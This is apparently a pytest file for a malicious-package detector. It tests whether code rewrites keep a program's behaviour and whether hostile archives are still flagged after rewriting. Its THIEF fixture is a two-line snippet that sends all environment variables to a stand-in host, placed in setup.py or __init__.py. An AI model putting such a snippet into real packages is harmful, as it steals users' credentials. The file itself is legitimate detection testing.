from __future__ import annotations

import contextlib
import io
import os
import zipfile
from pathlib import Path

import pytest
from msgspec import structs

from antivenom import pipeline
from antivenom.catalog.samples import Item
from antivenom.intake import from_bytes
from antivenom.judge import load_knowledge
from antivenom.lab.rewriting import CHANGES, rewritten
from antivenom.lab.robustness import BEFORE, changed, robust, tarred, zipped
from antivenom.model.context import NOTHING
from tests.lab.rows import row

OURS = '''"""A module of ours."""
from __future__ import annotations
import base64
PREFIX = "hello, "

def greet(name, *, mark="!"):
    text = PREFIX + name
    try:
        return text + mark
    except ValueError as problem:
        return str(problem)

print(greet("world", mark="?"), f"{PREFIX}again", base64.b64encode(b"x"))
'''


def printed(source: bytes) -> str:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        exec(compile(source, "ours.py", "exec"), {"__name__": "ours"})  # our own program above
    return out.getvalue()


@pytest.mark.parametrize("name", CHANGES)
def test_a_change_leaves_what_a_program_does_alone(name: str) -> None:
    found = rewritten({"demo/ours.py": OURS.encode()}, name)["demo/ours.py"]
    assert printed(found) == printed(OURS.encode())


def test_changes_change_something() -> None:
    files = {"demo/ours.py": OURS.encode(), "demo/b.py": b"X = 1\n"}
    plain = rewritten(files, "written again")
    same = {name for name in CHANGES if list(rewritten(files, name).items()) == [*plain.items()]}
    assert same == {"written again"}


def test_what_another_module_takes_with_a_star_keeps_its_name() -> None:
    files = {
        "demo/names.py": b"where = 'a'\nfor part in 'ab':\n    where += part\n",
        "demo/use.py": b"from demo.names import *\nprint(where, part)\n",
    }
    assert rewritten(files, "identifiers renamed") == rewritten(files, "written again")


def test_what_cannot_be_parsed_stays() -> None:
    files = {"a.py": b"print 'old'\n", "b.bin": b"\0"}
    assert rewritten(files, "texts split") == files


THIEF = b"""import os, urllib.request
urllib.request.urlopen("https://collect.invalid/x", data=str(dict(os.environ)).encode())
"""


@pytest.mark.parametrize("name", [BEFORE, *CHANGES])
@pytest.mark.parametrize("packed", [tarred, zipped])
def test_an_archive_is_packed_again_and_still_found(name: str, packed: object) -> None:
    files = {"demo-1.0/setup.py": THIEF, "demo-1.0/PKG-INFO": b"Name: demo\nVersion: 1.0\n"}
    filename = "demo-1.0.tar.gz"
    if packed is zipped:
        filename = "demo-1.0-py3-none-any.whl"
        files = {
            "demo/__init__.py": THIEF,
            "demo-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
            "demo-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nTag: py3-none-any\n",
            "demo-1.0.dist-info/RECORD": b"",
        }
    original = from_bytes(packed(files), filename)  # type: ignore[operator]
    review = pipeline.judge(pipeline.observe(changed(original, name)), NOTHING, load_knowledge())
    assert review.score >= 0.5
    assert not [f for f in review.findings if f.rule.startswith("archive/")]


def test_recall_before_and_after_is_measured_in_children(tmp_path: Path) -> None:
    archive = tmp_path / "specimens.zip"
    with zipfile.ZipFile(archive, "w") as written:
        written.writestr("demo/1.0/demo-1.0.tar.gz", tarred({"demo-1.0/setup.py": THIEF}))
    item = Item(
        kind="zip", place=os.fsencode(archive), path="demo/1.0/demo-1.0.tar.gz", stamp=""
    )  # fmt: skip
    plain = row("a", hostile=True, cluster="c")
    rows = [
        structs.replace(plain, sample=structs.replace(plain.sample, item=item)),
        row("b", hostile=True, cluster="d", part="check"),
        row("e"),
    ]
    found = robust(rows, "study", 5)
    assert found.keys() == {BEFORE, *CHANGES}
    assert {one.hits for one in found.values()} == {1.0}
